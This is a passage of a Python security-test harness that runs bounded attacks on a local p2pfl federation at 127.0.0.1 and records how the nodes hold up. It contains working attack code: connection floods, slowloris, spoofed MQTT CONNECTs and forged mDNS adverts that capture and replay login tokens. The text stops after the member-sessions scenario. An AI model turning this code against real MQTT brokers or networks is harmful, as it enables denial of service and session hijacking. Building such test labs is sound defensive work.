"""Attack lab: real nodes on 127.0.0.1 under attack, one bounded scenario at a time.

    python scripts/attack_lab.py                 # every scenario (~5 min on 2 cores)
    python scripts/attack_lab.py --quick         # fewer cycles, shorter windows (~3-4 min)
    python scripts/attack_lab.py --quick --scenarios connect-flood,plain-client --out runs/attack-lab

It creates a throwaway federation with the testbed's own functions (p2pfl.testbed.prepare), starts
`--nodes` node processes on a full topology that run rounds until stopped, each with its open-file
limit set to `--nofile` (1,024: the usual default; set in the child before it starts, so the node's
own headroom logic sees it), and measures rounds/s. Then each scenario attacks node-0 (the victim)
for a bounded count and time, and the lab reads what the nodes counted (`rejected` in their
metrics.jsonl), whether every node is still alive and running rounds, and rounds/s before and during.

Scenarios (the attacker is this process: raw sockets, ssl, zeroconf and p2pfl's own seal / codec /
mesh building blocks; every loop is bounded in count and time; 127.0.0.1 only):

- connect-flood: 5,000 TCP connect/close cycles (4 threads);
- idle-conns: 2,000 connections opened and held idle (the victim has `--nofile` descriptors);
- slowloris: connections that trickle the first bytes (MQTT CONNECT, or a TLS ClientHello where the
  broker speaks TLS) one byte a second;
- pre-auth-session: MQTT CONNECTs with a neighbour's node id as client id and username, no
  federation certificate, clean_session=0 and a will; then the same as a certified member;
- plain-client: an MQTT client without any certificate (plain TCP, then TLS without a client cert);
- mdns-forgery: zeroconf adverts on 127.0.0.1 for a rogue broker (records what nodes send it), a
  relay to a real member's broker under a made-up node id carrying that member's certificate, and an
  address outside 127.0.0.0/8 (none can carry a signature by a certified key);
- hostile-member: a member certified from the testbed's federation dir that joins by mDNS and sends
  an update cut into tiny parts and one with 100,000 empty tensors;
- member-sessions: that member opens 300 MQTT sessions to the victim and holds them (is there a
  session left for anyone else?);
- member-junk: that member's session sends 20,000 PUBACKs for messages never sent (what does the
  victim's log make of them?).

A scenario whose defence has not landed yet still runs and reports what happened. `--out DIR` writes
the table as attack_lab.md and attack_lab.csv (plus results.json) and keeps the nodes' dirs under DIR/run.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import csv
import dataclasses
import inspect
import json
import os
import re
import resource
import selectors
import shutil
import signal
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

HOST = "127.0.0.1"
SCENARIOS = (
    "connect-flood",
    "idle-conns",
    "slowloris",
    "pre-auth-session",
    "plain-client",
    "mdns-forgery",
    "hostile-member",
    "member-sessions",
    "member-junk",
)


# -- settings ----------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Budget:
    """How much each scenario does, and for how long at most."""

    flood_cycles: int = 5000
    flood_s: float = 60.0
    idle_conns: int = 2000
    idle_hold_s: float = 20.0
    slow_conns: int = 40
    slow_s: float = 25.0
    preauth_attempts: int = 60
    plain_attempts: int = 40
    mdns_s: float = 25.0
    member_s: float = 40.0
    member_sessions: int = 300
    member_hold_s: float = 15.0
    junk_packets: int = 20000
    measure_s: float = 5.0  # rounds/s window before each scenario
    settle_s: float = 40.0  # ceiling on waiting for the nodes' next metrics after a scenario

    @classmethod
    def quick(cls) -> Budget:
        return cls(
            flood_cycles=1500,
            flood_s=30.0,
            idle_conns=2000,
            idle_hold_s=8.0,
            slow_conns=16,
            slow_s=14.0,
            preauth_attempts=20,
            plain_attempts=10,
            mdns_s=15.0,
            member_s=30.0,
            member_sessions=300,
            member_hold_s=8.0,
            junk_packets=5000,
            measure_s=3.0,
            settle_s=30.0,
        )


@dataclass
class Result:
    scenario: str
    attack: str = ""
    refused: dict[str, int] = field(default_factory=dict)
    alive: str = ""
    rounds_before: float | None = None
    rounds_during: float | None = None
    notes: list[str] = field(default_factory=list)
    error: str = ""

    def refused_text(self) -> str:
        if not self.refused:
            return "0"
        total = sum(self.refused.values())
        parts = ", ".join(f"{k} {v}" for k, v in sorted(self.refused.items(), key=lambda kv: -kv[1]))
        return f"{total} ({parts})"


# -- the nodes ---------------------------------------------------------------------------------------


@dataclass
class LabNode:
    name: str
    directory: Path
    proc: subprocess.Popen[bytes]
    node_id: str = ""
    port: int = 0

    @property
    def running(self) -> bool:
        return self.proc.poll() is None

    def records(self) -> list[dict[str, Any]]:
        from p2pfl.testbed import read_metrics

        return read_metrics(self.directory / "metrics.jsonl")

    def last(self) -> dict[str, Any]:
        records = self.records()
        return records[-1] if records else {}

    def round(self) -> int:
        value = self.last().get("round")
        return int(value) if isinstance(value, int) else 0

    def rejected(self) -> Counter[str]:
        raw = self.last().get("rejected")
        return Counter(
            {k: int(v) for k, v in raw.items() if isinstance(v, int)} if isinstance(raw, dict) else {}
        )

    def log_text(self, offset: int = 0) -> str:
        """The node's log from byte `offset` on (a node under attack may write megabytes)."""
        try:
            with (self.directory / "node.log").open("rb") as fh:
                fh.seek(offset)
                return fh.read().decode("utf-8", errors="replace")
        except OSError:
            return ""

    def log_size(self) -> int:
        try:
            return (self.directory / "node.log").stat().st_size
        except OSError:
            return 0

    def log_tail(self, size: int = 200_000) -> str:
        return self.log_text(max(0, self.log_size() - size))


def _limited_preexec(parent: int, nofile: int) -> Callable[[], None]:
    """The testbed's child setup (SIGTERM when the lab dies) plus RLIMIT_NOFILE = nofile, soft and hard."""
    from p2pfl.faultlab import child_setup

    setup = child_setup(parent)

    def run() -> None:
        if nofile > 0:
            resource.setrlimit(resource.RLIMIT_NOFILE, (nofile, nofile))
        setup()

    return run


def launch_limited(path: Path, nofile: int) -> subprocess.Popen[bytes]:
    """Start one node like p2pfl.testbed.launch_node does, with its open-file limit set to `nofile`."""
    from p2pfl.faultlab import PARENT_PID_ENV

    env = {**os.environ, "OMP_NUM_THREADS": "1", "PYTHONUNBUFFERED": "1", PARENT_PID_ENV: str(os.getpid())}
    cmd = [sys.executable, "-m", "p2pfl", "node", "--config", str(path)]
    with (path.parent / "node.log").open("ab") as log:
        return subprocess.Popen(
            cmd,
            stdout=log,
            stderr=subprocess.STDOUT,
            env=env,
            start_new_session=True,
            preexec_fn=_limited_preexec(os.getpid(), nofile),
        )


class Lab:
    """A running federation of node processes on 127.0.0.1, and the measurements taken on it."""

    def __init__(
        self, out: Path, nodes: int, nofile: int, round_timeout: float, log: Callable[[str], None]
    ) -> None:
        self.out = out
        self.count = nodes
        self.nofile = nofile
        self.round_timeout = round_timeout
        self.log = log
        self.nodes: list[LabNode] = []
        self.federation_dir = out / "federation"
        self.federation_id = ""

    # -- start / stop -------------------------------------------------------------------------------

    def start(self, ceiling_s: float = 180.0) -> None:
        from p2pfl import config as config_mod
        from p2pfl.federation import Certificate
        from p2pfl.testbed import parse_args, prepare

        args = parse_args(
            [
                "--nodes", str(self.count), "--rounds", "0", "--topology", "full",
                "--round-timeout", str(self.round_timeout), "--wait", "60",
            ]
        )  # fmt: skip
        configs = prepare(args, self.out)
        for path in configs:  # no per-round model files: a run of thousands of rounds would leave thousands
            cfg = config_mod.load(path)
            cfg.metrics.save_models = False
            path.write_text(config_mod.to_toml(cfg))
        for path in configs:
            directory = path.parent
            node = LabNode(directory.name, directory, launch_limited(path, self.nofile))
            node.node_id = Certificate.from_bytes((directory / "certificate").read_bytes()).node_id
            self.federation_id = Certificate.from_bytes(
                (directory / "certificate").read_bytes()
            ).federation_id
            self.nodes.append(node)
        self.log(
            f"started {self.count} nodes (open-file limit {self.nofile or 'inherited'}); waiting for rounds"
        )
        deadline = time.monotonic() + ceiling_s
        while time.monotonic() < deadline:
            for node in self.nodes:
                if not node.port:
                    node.port = _broker_port(node.log_text())
                if not node.running:
                    raise RuntimeError(
                        f"{node.name} exited with {node.proc.returncode}: {_tail(node.log_text())}"
                    )
            if all(n.port for n in self.nodes) and all(n.round() >= 3 for n in self.nodes):
                self.log("nodes: " + ", ".join(f"{n.name} {n.node_id} port {n.port}" for n in self.nodes))
                return
            time.sleep(0.25)  # polling files the nodes append to; nothing else signals progress
        raise RuntimeError(
            "nodes did not reach round 3 in time: " + "; ".join(_tail(n.log_tail()) for n in self.nodes)
        )

    def restart_down(self, ceiling_s: float = 120.0) -> list[str]:
        """Restart nodes that exited (they resume from their checkpoint); what happened, one line each."""
        notes = []
        for node in self.nodes:
            if node.running:
                continue
            cause = death_cause(node.log_tail())
            offset = node.log_size()
            node.port = 0
            node.proc = launch_limited(node.directory / "node.toml", self.nofile)
            start = node.round()
            deadline = time.monotonic() + ceiling_s
            while time.monotonic() < deadline and node.running:
                if not node.port:
                    node.port = _broker_port(node.log_text(offset))
                if node.port and node.round() >= start + 3:
                    break
                time.sleep(0.25)
            state = "running again" if node.running and node.round() >= start + 3 else "did not recover"
            notes.append(f"{node.name} had exited ({cause}); restarted, {state}")
            self.log(notes[-1])
        return notes

    def stop(self) -> None:
        from p2pfl.faultlab import signal_group

        for node in self.nodes:
            if node.running:
                signal_group(node.proc.pid, signal.SIGTERM)
        deadline = time.monotonic() + 15
        for node in self.nodes:
            with contextlib.suppress(subprocess.TimeoutExpired):
                node.proc.wait(timeout=max(0.1, deadline - time.monotonic()))
        for node in self.nodes:
            if node.running:
                signal_group(node.proc.pid, signal.SIGKILL)
                with contextlib.suppress(subprocess.TimeoutExpired):
                    node.proc.wait(timeout=10)

    # -- measuring ----------------------------------------------------------------------------------

    @property
    def victim(self) -> LabNode:
        return self.nodes[0]

    def rounds(self) -> list[int]:
        return [n.round() for n in self.nodes]

    def rejected(self) -> Counter[str]:
        total: Counter[str] = Counter()
        for node in self.nodes:
            total.update(node.rejected())
        return total

    def missed(self) -> int:
        """Neighbours missing from rounds, summed over every node's records so far."""
        return sum(len(r.get("missing") or []) for n in self.nodes for r in n.records())

    def rate(self, window_s: float) -> float:
        """Mean rounds/s per node over the next `window_s` seconds."""
        r0, t0 = self.rounds(), time.monotonic()
        time.sleep(window_s)
        return _per_node_rate(r0, self.rounds(), time.monotonic() - t0)

    def settle(self, ceiling_s: float) -> list[str]:
        """Wait until each running node wrote two more round records (refusals are counted per record);
        the names of nodes that did not within `ceiling_s`."""
        start = {n.name: n.round() for n in self.nodes}
        deadline = time.monotonic() + ceiling_s
        while time.monotonic() < deadline:
            if all(not n.running or n.round() >= start[n.name] + 2 for n in self.nodes):
                break
            time.sleep(0.25)
        return [n.name for n in self.nodes if n.round() < start[n.name] + 2]

    def alive_text(self, stalled: list[str]) -> str:
        up = [n for n in self.nodes if n.running and n.name not in stalled]
        text = f"{len(up)}/{len(self.nodes)}"
        gone = [f"{n.name} exited {n.proc.returncode}" for n in self.nodes if not n.running]
        stuck = [
            f"{name} stalled" for name in stalled if any(n.name == name and n.running for n in self.nodes)
        ]
        return text + (f" ({', '.join(gone + stuck)})" if gone or stuck else "")


def _per_node_rate(before: list[int], after: list[int], seconds: float) -> float:
    if seconds <= 0:
        return 0.0
    return sum(max(0, b - a) for a, b in zip(before, after, strict=True)) / len(before) / seconds


def _broker_port(log_text: str) -> int:
    """The port of the node's latest start (a restarted node appends to its log and gets a new port)."""
    ports = re.findall(r"(?:outbox broker|front door) listening on [\d.]+:(\d+)", log_text)
    return int(ports[-1]) if ports else 0


def death_cause(log_text: str) -> str:
    """The last exception line a node logged (why it exited), shortened."""
    lines = [line for line in log_text.splitlines()[-400:] if re.match(r"^[\w.]*(Error|Exception)\b", line)]
    return lines[-1][:160] if lines else "no exception logged"


def _tail(text: str, lines: int = 3) -> str:
    return " | ".join(text.strip().splitlines()[-lines:])


# -- MQTT and TLS bytes ------------------------------------------------------------------------------


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte, n = n % 128, n // 128
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _field(data: bytes) -> bytes:
    return struct.pack(">H", len(data)) + data


def mqtt_connect(
    client_id: str,
    *,
    clean: bool = True,
    username: str | None = None,
    password: bytes | None = None,
    will: tuple[str, bytes] | None = None,
    keepalive: int = 60,
) -> bytes:
    """An MQTT 3.1.1 CONNECT packet."""
    flags = 0x02 if clean else 0
    payload = _field(client_id.encode())
    if will is not None:
        flags |= 0x04 | (1 << 3)  # will flag, will QoS 1
        payload += _field(will[0].encode()) + _field(will[1])
    if username is not None:
        flags |= 0x80
        payload += _field(username.encode())
    if password is not None:
        flags |= 0x40
        payload += _field(password)
    body = _field(b"MQTT") + bytes([4, flags]) + struct.pack(">H", keepalive) + payload
    return bytes([0x10]) + _varint(len(body)) + body


def parse_connect(data: bytes) -> dict[str, Any] | None:
    """Client id, username and password of a CONNECT at the start of `data` (what a rogue broker sees)."""
    try:
        if not data or data[0] != 0x10:
            return None
        i, mult, length = 1, 1, 0
        while True:
            byte = data[i]
            length += (byte & 0x7F) * mult
            mult *= 128
            i += 1
            if not byte & 0x80:
                break
        body = data[i : i + length]
        if len(body) < length:
            return None
        pos = 2 + struct.unpack_from(">H", body, 0)[0]
        flags = body[pos + 1]
        pos += 4

        def take() -> bytes:
            nonlocal pos
            n = struct.unpack_from(">H", body, pos)[0]
            value = body[pos + 2 : pos + 2 + n]
            pos += 2 + n
            return bytes(value)

        out: dict[str, Any] = {"client_id": take().decode(errors="replace"), "clean": bool(flags & 0x02)}
        if flags & 0x04:
            take(), take()
        if flags & 0x80:
            out["username"] = take().decode(errors="replace")
        if flags & 0x40:
            out["password"] = take()
        return out
    except (IndexError, struct.error):
        return None


def client_hello() -> bytes:
    """The first flight of a real TLS 1.3 client, to trickle or replay."""
    ctx = bare_tls_client()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(incoming, outgoing)
    with contextlib.suppress(ssl.SSLWantReadError):
        obj.do_handshake()
    return outgoing.read()


def bare_tls_client() -> ssl.SSLContext:
    """A TLS client with no certificate of its own that trusts anything (an outsider)."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx


def speaks_tls(port: int, timeout: float = 10.0) -> bool:
    """True when the broker answers a ClientHello with a TLS handshake record."""
    try:
        with socket.create_connection((HOST, port), timeout=timeout) as sock:
            sock.sendall(client_hello())
            first = sock.recv(1)
            return first == b"\x16"
    except OSError:
        return False


def connack(sock: socket.socket | ssl.SSLSocket, timeout: float) -> str:
    """'rc N' from the broker's CONNACK, or how the connection ended without one."""
    sock.settimeout(timeout)
    try:
        data = b""
        while len(data) < 4:
            chunk = sock.recv(4 - len(data))
            if not chunk:
                return "closed without CONNACK"
            data += chunk
    except TimeoutError:
        return "no answer"
    except ssl.SSLError as exc:
        return f"TLS refused ({exc.reason or exc.__class__.__name__})"
    except OSError as exc:
        return f"reset ({exc.strerror or exc.__class__.__name__})"
    if data[0] != 0x20:
        return f"unexpected packet 0x{data[0]:02x}"
    return f"rc {data[3]}"


def try_connect(
    port: int,
    packet: bytes,
    context: ssl.SSLContext | None = None,
    timeout: float = 10.0,
    hold_s: float = 0.0,
) -> str:
    """Send one CONNECT (over TLS with `context`) and say how the broker answered."""
    try:
        raw = socket.create_connection((HOST, port), timeout=timeout)
    except OSError as exc:
        return f"connect failed ({exc.strerror or exc.__class__.__name__})"
    with raw:
        sock: socket.socket | ssl.SSLSocket = raw
        if context is not None:
            try:
                sock = context.wrap_socket(raw)
            except ssl.SSLError as exc:
                return f"TLS refused ({exc.reason or exc.__class__.__name__})"
            except OSError as exc:
                return f"TLS refused ({exc.strerror or exc.__class__.__name__})"
        try:
            sock.sendall(packet)
        except OSError as exc:
            return f"reset before CONNECT was sent ({exc.__class__.__name__})"
        answer = connack(sock, timeout)
        if hold_s and answer == "rc 0":
            with contextlib.suppress(OSError):
                sock.settimeout(hold_s)
                sock.recv(1)
        return answer


# -- scenarios ---------------------------------------------------------------------------------------


class Attack:
    """Shared by the scenarios: the lab, the budget, and a certified hostile member made on demand."""

    def __init__(self, lab: Lab, budget: Budget, log: Callable[[str], None]) -> None:
        self.lab = lab
        self.budget = budget
        self.log = log
        self._tls: bool | None = None
        self._mallory: Path | None = None

    @property
    def tls(self) -> bool:
        if self._tls is None:
            self._tls = speaks_tls(self.lab.victim.port)
            self.log(f"victim broker speaks {'TLS' if self._tls else 'plain MQTT'}")
        return self._tls

    def mallory_dir(self) -> Path:
        """A member certified from the testbed's federation dir (what a malicious insider has)."""
        if self._mallory is not None:
            return self._mallory
        from p2pfl.federation import FederationAuthority
        from p2pfl.identity import load_or_create

        directory = self.lab.out / "mallory"
        authority = FederationAuthority.load(self.lab.federation_dir)
        identity = load_or_create(directory)
        kwargs: dict[str, Any] = {}
        if "node_dir" in inspect.signature(authority.issue).parameters:
            kwargs["node_dir"] = directory  # the TLS era: certificate, federation.pub, node.crt, ca.crt
        cert = authority.issue(
            "mallory", identity.verify_key_bytes, identity.box_public_bytes, 86400.0, **kwargs
        )
        if not kwargs:
            (directory / "certificate").write_bytes(cert.to_bytes())
            authority.root.save(directory / "federation.pub")
        self._mallory = directory
        return directory

    def mallory_tls(self) -> ssl.SSLContext | None:
        """Mallory's TLS client context, or None where the tree has no mutual TLS."""
        return self.member_tls(self.mallory_dir())

    def mallory_password(self) -> tuple[str, str] | None:
        """Mallory's (username, token) where the tree still has broker tokens, else None."""
        return self.member_password(self.mallory_dir())

    @staticmethod
    def member_tls(directory: Path) -> ssl.SSLContext | None:
        """A member's TLS client context from its data dir, or None where the tree has no mutual TLS."""
        try:
            from p2pfl import tls
        except ImportError:
            return None
        from p2pfl.node import load_credentials

        identity, cert, root = load_credentials(directory)
        context: ssl.SSLContext = tls.load_node_tls(directory, identity, cert, root).client_context()
        return context

    @staticmethod
    def member_password(directory: Path) -> tuple[str, str] | None:
        """A member's (username, broker token) where the tree still has tokens, else None."""
        try:
            from p2pfl.federation import make_token  # type: ignore[attr-defined]
        except ImportError:
            return None
        from p2pfl.node import load_credentials

        identity, cert, _ = load_credentials(directory)
        return identity.node_id, str(make_token(identity, cert))

    # -- 1 ------------------------------------------------------------------------------------------

    def connect_flood(self, result: Result) -> None:
        port, budget = self.lab.victim.port, self.budget
        counts: Counter[str] = Counter()
        lock = threading.Lock()
        remaining = [budget.flood_cycles]
        deadline = time.monotonic() + budget.flood_s

        def worker() -> None:
            while time.monotonic() < deadline:
                with lock:
                    if remaining[0] <= 0:
                        return
                    remaining[0] -= 1
                sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                sock.settimeout(2.0)
                try:
                    sock.connect((HOST, port))
                    outcome = "connected"
                except OSError as exc:
                    outcome = f"failed ({exc.__class__.__name__})"
                finally:
                    sock.close()
                with lock:
                    counts[outcome] += 1

        t0 = time.monotonic()
        threads = [threading.Thread(target=worker, daemon=True) for _ in range(4)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(budget.flood_s + 10)
        took = time.monotonic() - t0
        done = sum(counts.values())
        result.attack = f"{done} connect/close cycles in {took:.1f} s"
        result.notes.append(", ".join(f"{k}: {v}" for k, v in counts.most_common()))

    # -- 2 ------------------------------------------------------------------------------------------

    def idle_connections(self, result: Result) -> None:
        port, budget = self.lab.victim.port, self.budget
        _raise_own_nofile(budget.idle_conns + 256)
        sel = selectors.DefaultSelector()
        pending: set[socket.socket] = set()
        opened: list[socket.socket] = []
        failed = 0
        t0 = time.monotonic()
        connect_deadline = t0 + 30.0
        try:
            for _ in range(budget.idle_conns):
                sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                sock.setblocking(False)
                err = sock.connect_ex((HOST, port))
                if err not in (0, 115):  # 115: EINPROGRESS
                    sock.close()
                    failed += 1
                    continue
                pending.add(sock)
                sel.register(sock, selectors.EVENT_WRITE)
                while len(pending) > 256 and time.monotonic() < connect_deadline:  # a bounded SYN burst
                    failed += _drain_connects(sel, pending, opened, 0.5)
            while pending and time.monotonic() < connect_deadline:
                failed += _drain_connects(sel, pending, opened, 0.5)
            for sock in list(pending):  # never completed: the backlog was full
                sel.unregister(sock)
                sock.close()
                failed += 1
            pending.clear()
            established = len(opened)
            for sock in opened:
                sel.register(sock, selectors.EVENT_READ)
            closed_by_node = 0
            hold_until = time.monotonic() + budget.idle_hold_s
            r0, m0 = self.lab.rounds(), time.monotonic()
            while time.monotonic() < hold_until:
                for key, _ in sel.select(timeout=0.5):
                    sock = key.fileobj  # type: ignore[assignment]
                    try:
                        data = sock.recv(4096)
                    except OSError:
                        data = b""
                    if not data:
                        sel.unregister(sock)
                        closed_by_node += 1
            result.rounds_during = _per_node_rate(r0, self.lab.rounds(), time.monotonic() - m0)
            result.attack = (
                f"{budget.idle_conns} opened: {established} established, {failed} not; "
                f"held {budget.idle_hold_s:.0f} s"
            )
            result.notes.append(f"{closed_by_node} of {established} closed by the node while held")
        finally:
            for sock in opened + list(pending):
                with contextlib.suppress(Exception):
                    sel.unregister(sock)
                sock.close()
            sel.close()

    # -- 3 ------------------------------------------------------------------------------------------

    def slowloris(self, result: Result) -> None:
        port, budget = self.lab.victim.port, self.budget
        payload = client_hello() if self.tls else mqtt_connect("slowloris", username="x", password=b"y")
        what = "TLS ClientHello" if self.tls else "MQTT CONNECT"
        socks: dict[socket.socket, float] = {}
        closed_after: list[float] = []
        t0 = time.monotonic()
        for _ in range(budget.slow_conns):
            try:
                sock = socket.create_connection((HOST, port), timeout=5.0)
            except OSError:
                continue
            sock.setblocking(False)
            socks[sock] = time.monotonic()
        opened = len(socks)
        sent = 0
        try:
            for index in range(len(payload)):
                if not socks or time.monotonic() - t0 > budget.slow_s:
                    break
                for sock, began in list(socks.items()):
                    try:
                        sock.send(payload[index : index + 1])
                        with contextlib.suppress(BlockingIOError):
                            if sock.recv(4096) == b"":
                                raise ConnectionResetError
                    except OSError:
                        closed_after.append(time.monotonic() - began)
                        sock.close()
                        del socks[sock]
                sent = index + 1
                time.sleep(1.0)  # the attack's pace: one byte per connection per second
        finally:
            for sock in socks:
                sock.close()
        held = time.monotonic() - t0
        result.attack = (
            f"{opened} connections trickling a {what}, 1 byte/s, {sent} of {len(payload)} bytes sent"
        )
        if closed_after:
            result.notes.append(
                f"{len(closed_after)}/{opened} closed by the node, after {min(closed_after):.0f}-{max(closed_after):.0f} s"
            )
        result.notes.append(f"{len(socks)}/{opened} still open when the attacker stopped at {held:.0f} s")

    # -- 4 ------------------------------------------------------------------------------------------

    def pre_auth_session(self, result: Result) -> None:
        port, budget, lab = self.lab.victim.port, self.budget, self.lab
        neighbour = lab.nodes[1].node_id
        will = (f"p2pfl/{lab.federation_id}/{neighbour}/cert", b"forged will")
        outcomes: Counter[str] = Counter()
        forged = mqtt_connect(neighbour, clean=False, username=neighbour, password=b"not-a-token", will=will)
        bare = mqtt_connect(neighbour, clean=False, will=will)
        for i in range(budget.preauth_attempts):
            packet = forged if i % 2 == 0 else bare
            outcomes[f"plain TCP: {try_connect(port, packet, timeout=10)}"] += 1
            if self.tls:
                outcomes[
                    f"TLS, no client cert: {try_connect(port, packet, bare_tls_client(), timeout=10)}"
                ] += 1
        # the same as a certified member (mallory) claiming the neighbour's client id
        mallory = self.mallory_tls() if self.tls else None
        token = None if self.tls else self.mallory_password()
        certified = 0
        for _ in range(max(1, budget.preauth_attempts // 4)):
            if mallory is not None and self.tls:
                packet = mqtt_connect(neighbour, clean=False, will=will)
                outcomes[
                    f"member, TLS, neighbour's id: {try_connect(port, packet, mallory, timeout=10)}"
                ] += 1
                certified += 1
            elif token is not None:
                user, password = token
                packet = mqtt_connect(
                    neighbour, clean=False, username=user, password=password.encode(), will=will
                )
                outcomes[f"member token, neighbour's id: {try_connect(port, packet, timeout=10)}"] += 1
                certified += 1
        result.attack = (
            f"{budget.preauth_attempts} uncertified CONNECTs as {lab.nodes[1].name} (clean_session=0, will)"
            + (f" + {certified} as a certified member with that client id" if certified else "")
        )
        result.notes.extend(f"{k}: {v}" for k, v in outcomes.most_common())

    # -- 5 ------------------------------------------------------------------------------------------

    def plain_client(self, result: Result) -> None:
        port, budget = self.lab.victim.port, self.budget
        outcomes: Counter[str] = Counter()
        for i in range(budget.plain_attempts):
            packet = mqtt_connect(f"plain-{i}")
            outcomes[f"plain MQTT: {try_connect(port, packet, timeout=10)}"] += 1
            if self.tls:
                answer = try_connect(port, packet, bare_tls_client(), timeout=10)
                outcomes[f"TLS without a client cert: {answer}"] += 1
        result.attack = f"{budget.plain_attempts} anonymous MQTT clients" + (
            " (plain TCP, and TLS without a client cert)" if self.tls else " (plain TCP)"
        )
        result.notes.extend(f"{k}: {v}" for k, v in outcomes.most_common())

    # -- 6 ------------------------------------------------------------------------------------------

    def mdns_forgery(self, result: Result) -> None:
        from zeroconf import IPVersion, ServiceInfo, Zeroconf

        from p2pfl.federation import Certificate

        lab, budget = self.lab, self.budget
        relay_target = lab.nodes[1]
        real_cert = (relay_target.directory / "certificate").read_bytes()  # public: every advert carries one
        real_fp = Certificate.from_bytes(real_cert).fingerprint()
        rogue = RogueBroker(answer=True)
        relay = RogueBroker(relay_to=relay_target.port)
        adverts = [
            ("rogue", os.urandom(8).hex(), os.urandom(8).hex(), os.urandom(200), HOST, rogue.port),
            ("relay", os.urandom(8).hex(), real_fp, real_cert, HOST, relay.port),
            (
                "foreign-address",
                os.urandom(8).hex(),
                os.urandom(8).hex(),
                os.urandom(200),
                "192.0.2.7",
                rogue.port,
            ),
        ]
        zc = Zeroconf(interfaces=[HOST], ip_version=IPVersion.V4Only)
        infos = []
        members0 = max(int(n.last().get("members") or 0) for n in lab.nodes)
        try:
            for name, node_id, fp, cert, host, port in adverts:
                txt = {"id": node_id, "fed": lab.federation_id, "name": name, "fp": fp, "v": "2"}
                txt |= {
                    "t": str(int(time.time())),
                    "s": os.urandom(64),
                    "c0": cert,
                }  # a signature it cannot make
                info = ServiceInfo(
                    "_p2pfl._tcp.local.",
                    f"{node_id}._p2pfl._tcp.local.",
                    port=port,
                    properties=txt,
                    server=f"p2pfl-{node_id}.local.",
                    parsed_addresses=[host],
                    host_ttl=120,
                    other_ttl=120,
                )
                zc.register_service(info)
                infos.append(info)
            deadline = time.monotonic() + budget.mdns_s
            members = members0
            while time.monotonic() < deadline:
                members = max(members, *(int(n.last().get("members") or 0) for n in lab.nodes))
                time.sleep(0.5)
        finally:
            for info in infos:
                with contextlib.suppress(Exception):
                    zc.unregister_service(info)
            zc.close()
            rogue.close()
            relay.close()
        result.attack = (
            f"3 forged adverts for {budget.mdns_s:.0f} s: a rogue broker, a relay to {relay_target.name}'s broker "
            "under a made-up id, an address outside 127.0.0.0/8"
        )
        result.notes.append(f"rogue broker: {rogue.summary()}")
        result.notes.append(f"relay: {relay.summary()}")
        result.notes.append(
            f"largest membership seen {members} (before {members0}): "
            + (
                "a forged advert became a member"
                if members > members0
                else "no forged advert became a member"
            )
        )
        captured = [c for c in rogue.connects + relay.connects if c.get("password")]
        if captured:
            other = lab.nodes[2] if len(lab.nodes) > 2 else lab.nodes[0]
            c = captured[0]
            packet = mqtt_connect(
                f"replay-{os.urandom(4).hex()}", username=c.get("username"), password=c["password"]
            )
            answer = try_connect(other.port, packet, timeout=10)
            result.notes.append(
                f"login token of {c.get('username')} captured in clear; replayed on {other.name}: {answer}"
                + (" (ACCEPTED)" if answer == "rc 0" else "")
            )
        else:
            result.notes.append("no login token captured (nothing in clear)")

    # -- 7 ------------------------------------------------------------------------------------------

    def hostile_member(self, result: Result) -> None:
        from p2pfl.node import load_credentials

        directory = self.mallory_dir()
        identity, cert, root = load_credentials(directory)
        result.attack = (
            "certified member joins by mDNS; sends the victim an update cut into 16-byte parts, "
            "then one with 100,000 empty tensors"
        )
        asyncio.run(_hostile_member(self.lab, directory, identity, cert, root, self.budget, result.notes))

    # -- 8 ------------------------------------------------------------------------------------------

    def member_sessions(self, result: Result) -> None:
        """A certified member opens many MQTT sessions to the victim and holds them; can another
        member still get a session meanwhile?"""
        port, budget = self.lab.victim.port, self.budget
        _raise_own_nofile(budget.member_sessions + 256)
        context = self.mallory_tls() if self.tls else None
        token = None if self.tls else self.mallory_password()
        if context is None and token is None:
            result.error = "no way to log in as a member in this tree"
            return
        from p2pfl.node import load_credentials

        me = load_credentials(self.mallory_dir())[0].node_id
        honest = self.lab.nodes[2]
        honest_context = self.member_tls(honest.directory) if self.tls else None
        honest_token = None if self.tls else self.member_password(honest.directory)

        def session(
            node_id: str, tag: str, context: ssl.SSLContext | None, token: tuple[str, str] | None
        ) -> tuple[str, socket.socket | ssl.SSLSocket | None]:
            packet = mqtt_connect(
                f"{node_id}-{tag}",
                username=token[0] if token else None,
                password=token[1].encode() if token else None,
            )
            try:
                raw = socket.create_connection((HOST, port), timeout=10)
            except OSError as exc:
                return f"connect failed ({exc.__class__.__name__})", None
            sock: socket.socket | ssl.SSLSocket = raw
            try:
                if context is not None:
                    sock = context.wrap_socket(raw)
                sock.sendall(packet)
            except OSError as exc:
                raw.close()
                return f"refused ({exc.__class__.__name__})", None
            answer = connack(sock, 10)
            if answer != "rc 0":
                sock.close()
                return answer, None
            return answer, sock

        held: list[socket.socket | ssl.SSLSocket] = []
        outcomes: Counter[str] = Counter()
        deadline = time.monotonic() + budget.member_hold_s + 60
        try:
            for i in range(budget.member_sessions):
                if time.monotonic() > deadline:
                    break
                answer, sock = session(me, f"{i:08x}", context, token)
                outcomes[answer] += 1
                if sock is not None:
                    held.append(sock)
            r0, t0 = self.lab.rounds(), time.monotonic()
            probe, probe_sock = session(honest.node_id, "probe", honest_context, honest_token)
            if probe_sock is not None:
                probe_sock.close()
            time.sleep(budget.member_hold_s)  # the attack: hold them while the federation runs rounds
            result.rounds_during = _per_node_rate(r0, self.lab.rounds(), time.monotonic() - t0)
        finally:
            for sock in held:
                with contextlib.suppress(OSError):
                    sock.close()
        result.attack = (
            f"a certified member opens {budget.member_sessions} MQTT sessions to the victim "
            f"and holds them {budget.member_hold_s:.0f} s"
        )
        result.notes.append("sessions: " + ", ".join(f"{k}: {v}" for k, v in outcomes.most_common()))
        result.notes.append(f"a new session of honest {honest.name} while they were held: {probe}")

